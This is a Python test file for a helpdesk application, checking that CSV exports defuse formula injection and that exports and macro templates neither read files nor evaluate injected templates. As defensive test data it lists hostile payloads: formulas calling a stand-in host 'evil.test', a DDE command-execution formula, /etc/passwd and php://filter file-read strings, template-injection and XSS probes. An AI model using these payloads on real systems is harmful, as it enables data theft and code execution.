"""Tables that run what customers wrote (CSV formula injection), exports that read files (osTicket
CVE-2026-22200, Frappe GHSA-pj59-9hv9-rmrv), macros that run what customers are called (templates)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.desk import Desk
from yizhan.domains.automation import errors
from yizhan.domains.automation.service import texts
from yizhan.domains.automation.types import Variant
from yizhan.kernel import sheets

FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.test?\"&A1)", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1",
    "\u00a0=1", "\u200b=1", "\ufeff=1", "＝1+1", "＋1", "－1", "＠SUM", "\u3000＝1", "=cmd|' /C calc'!A0",
    "|calc", "%0A=1", "\u202e=1", "=IMPORTXML(\"http://evil.test\",\"//a\")", "\u2060\u2060=1", "\x00=1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    ((found, second),) = csv.reader(io.StringIO(sheets.lines([(text, "b")]).decode(), newline=""))
    seen = found.lstrip(" \t\r\n\u00a0\u3000\u200b\ufeff\u202e\u2060\x00")
    assert seen[:1] not in tuple("=+-@|%＝＋－＠") or found.startswith("'"), found
    assert second == "b"


@given(st.text(max_size=60))
def test_a_table_reads_back_as_it_was_written(text: str) -> None:
    clean = text.encode("utf-8", "replace").decode()
    raw = sheets.lines([(clean, 7, None, -1.5)])
    rows = list(csv.reader(io.StringIO(raw.decode(), newline="")))
    assert len(rows) == 1
    assert rows[0][0] in (clean, f"'{clean}")
    assert rows[0][1:] == ["7", "", "-1.5"]


async def test_exports_hold_words_and_no_files(desk: Desk) -> None:
    hostile = ["=HYPERLINK(\"http://evil.test\")", "file:///etc/passwd", "<iframe src=file:///etc/passwd>",
               "php://filter/resource=/etc/passwd", "＝1+1", "{{7*7}}"]  # fmt: skip
    for text in hostile:
        made = await desk.api.post(
            "/api/v1/tickets",
            json={"subject": text, "body": text, "requester": {"email": "a@b.test", "name": text}},
        )
        assert made.status_code == 201
    await desk.run_jobs()
    answer = await desk.api.get("/api/v1/reports/export", params={"metric": "created"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    subjects = {cell for row in rows for cell in row}
    for text in hostile:
        assert (f"'{text}" if text[0] in "=＝" else text) in subjects
    assert "root:" not in answer.text
    log = await desk.api.get("/api/v1/audit/export")
    assert "root:" not in log.text
    (told,) = await desk.events("report.exported")  # who took it along is in the audit log
    assert told.data["metric"] == "created"


def test_a_macro_fills_in_once_and_runs_nothing() -> None:
    """A customer called ``{{agent.name}}`` or ``{{7*7}}`` stays called so, in text and in markup."""
    for name in ("{{agent.name}}", "{{7*7}}", "${7*7}", "{% x %}", "<img src=x onerror=hit()>", "{{ticket.field.a|b}}",
                 "{0.__class__}", "%(a)s", "{{constructor.constructor('hit()')()}}", "a\n\nb"):  # fmt: skip
        values = texts.Values(
            values={"customer.name": name, "agent.name": "SECRET"},
            fields={"a": "SECRET"},
            locale="en",
            now=datetime(2026, 11, 23, tzinfo=UTC),
        )
        variant = Variant(
            locale="en", body="Dear {{customer.name}}", html="<p>Dear {{customer.name}}</p>"
        )
        filled = texts.fill_variant(variant, values)
        assert filled.text == f"Dear {name}"
        assert "SECRET" not in filled.text + filled.html
        assert "<img" not in filled.html
    for bad in (
        "{{customer.__class__}}",
        "{{customer.name.mro}}",
        "{{config.secret}}",
        "{{date.today+99999}}",
    ):
        with pytest.raises(errors.UnknownVariable):
            texts.check(bad, place="body")
